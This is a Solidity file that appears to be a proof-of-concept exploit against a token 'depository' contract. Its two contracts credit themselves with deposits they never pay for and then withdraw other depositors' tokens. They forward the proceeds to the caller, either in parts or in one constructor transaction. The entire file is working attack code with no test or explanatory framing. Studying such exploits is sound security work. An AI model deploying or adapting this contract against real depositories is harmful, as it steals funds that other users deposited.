// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IDepository {
    function deposit(uint256 amount) external;

    function depositFor(address holder, uint256 amount) external;

    function giveNotice() external;

    function withdraw(uint256 amount) external;

    function assign(address to, uint256 amount) external;
}

interface IToken {
    function transfer(address to, uint256 value) external returns (bool);

    function balanceOf(address account) external view returns (uint256);
}

/// Deposits dollars it does not have, then withdraws dollars others brought.
contract EmptyDeposit {
    function run(IDepository depository, IToken dollar, uint256 amount) external {
        depository.deposit(amount);
        leave(depository, dollar, amount);
    }

    function runInParts(IDepository depository, IToken dollar, uint256 amount, uint256 parts) external {
        for (uint256 i = 0; i < parts; i++) depository.depositFor(address(this), amount / parts);
        leave(depository, dollar, amount);
    }

    function leave(IDepository depository, IToken dollar, uint256 amount) private {
        depository.giveNotice();
        depository.withdraw(amount);
        dollar.transfer(msg.sender, dollar.balanceOf(address(this)));
    }
}

/// Both kinds of deposit in one transaction, by the constructor.
contract EmptyDepositAtOnce {
    constructor(IDepository depository, IToken dollar, uint256 amount) {
        depository.deposit(amount / 2);
        depository.depositFor(address(this), amount / 2);
        depository.giveNotice();
        depository.withdraw(amount);
        dollar.transfer(msg.sender, dollar.balanceOf(address(this)));
    }
}
